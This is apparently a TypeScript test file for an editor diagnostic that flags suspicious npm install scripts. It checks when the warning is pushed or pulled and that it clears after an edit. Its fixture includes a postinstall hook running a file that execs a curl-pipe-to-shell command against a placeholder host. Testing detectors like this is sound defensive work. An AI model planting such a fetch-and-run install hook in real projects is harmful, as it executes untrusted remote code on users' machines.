import assert from 'node:assert/strict';
import { test } from 'node:test';
import { type Capabilities, PULLING, PUSHED } from './capabilities.ts';
import { FOLDER, startClient } from './test-client.ts';

const MANIFEST = `${FOLDER}/package.json`;
const RULE = 'install-script-suspicious';
const FILES = {
  'package.json': '{\n  "name": "shop",\n  "scripts": { "postinstall": "node a.js" }\n}\n',
  'a.js': "require('child_process').exec('curl -s https://x.example.test/i.sh | sh')\n",
  'b.js': '\n',
};

const opened = async (capabilities: Capabilities) => {
  const client = await startClient({ files: FILES, capabilities });
  await client.open(MANIFEST);
  return client;
};

test('what an install script starts is read after the first diagnostics, which others follow', async () => {
  const client = await opened(PUSHED);
  const reports = () =>
    client.published.map(({ diagnostics }) => diagnostics.some(({ code }) => code === RULE));
  await client.until(() => reports().includes(true));
  assert.deepEqual(reports(), [false, true]);
  const at = FILES['package.json'].indexOf('a.js');
  await client.edit(MANIFEST, at, at + 1, 'b');
  await client.until(() => reports().at(-1) === false);
  await client.close();
});

test('a client that pulls is told to do so again', async () => {
  const client = await opened(PULLING);
  const isFound = async () => (await client.pull(MANIFEST)).items?.some(({ code }) => code === RULE);
  assert.equal(await isFound(), false);
  assert.equal(await client.eventually(isFound, (found) => found === true), true);
  await client.close();
});
